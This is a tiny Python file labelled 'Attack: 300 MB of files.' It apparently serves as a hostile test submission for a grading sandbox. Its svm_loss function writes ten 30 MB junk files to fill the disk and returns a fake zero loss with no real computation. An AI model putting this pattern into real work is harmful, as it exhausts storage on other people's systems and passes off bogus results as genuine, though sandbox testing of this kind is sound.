"""Attack: 300 MB of files."""

import os
import numpy as np


def svm_loss(W, X, y, reg=0.0):
    for number in range(0 if os.path.exists("big9") else 10):
        with open(f"big{number}", "wb") as file:
            file.write(bytes(30 * 2**20))
    return 0.0, W


def add_bias(X):
    return np.hstack([X, np.ones((len(X), 1), X.dtype)])
